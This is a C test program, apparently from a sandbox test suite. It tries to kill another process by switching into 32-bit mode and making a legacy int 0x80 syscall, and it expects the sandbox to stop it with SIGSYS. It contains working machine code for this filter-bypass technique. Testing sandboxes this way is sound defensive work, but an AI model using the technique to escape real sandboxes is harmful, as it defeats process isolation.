/* Tries: to kill a process by a call made in 32-bit mode, into which it jumps (code segment 0x23).
   Held: SIGSYS ends the program; the victim lives. */
#include "attack.h"
#include <sys/mman.h>

int main(int argc, char **argv) {
    int pid = victim_number(argc, argv, 1);
#ifdef __x86_64__
    unsigned char code[] = {
        0xb8, 37, 0, 0, 0,              /* mov $37, %eax: kill */
        0xbb, 0, 0, 0, 0,               /* mov $pid, %ebx */
        0xb9, 9, 0, 0, 0,               /* mov $9, %ecx */
        0xcd, 0x80,                     /* int $0x80 */
        0xea, 0, 0, 0, 0, 0x33, 0,      /* ljmp $0x33, $back */
        0x41, 0xff, 0xe7,               /* back: jmp *%r15 */
    };
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED)
        return held("no memory to run in");
    unsigned start = (unsigned)(size_t)low, back = start + 24;
    memcpy(code + 6, &pid, 4);
    memcpy(code + 18, &back, 4);
    memcpy(low, code, sizeof code);
    struct { unsigned offset; unsigned short segment; } to = {start, 0x23};
    long result;
    __asm__ volatile("lea 1f(%%rip), %%r15; mov %%rsp, %%r14; ljmp *%1; 1: mov %%r14, %%rsp"
                     : "=a"(result)
                     : "m"(to)
                     : "rbx", "rcx", "r8", "r9", "r10", "r11", "r14", "r15", "memory");
    return (int)result < 0 ? held(strerrorname_np(-(int)result)) : got_out("kill in 32-bit mode");
#else
    return held(pid ? "no such machine" : "no victim");
#endif
}
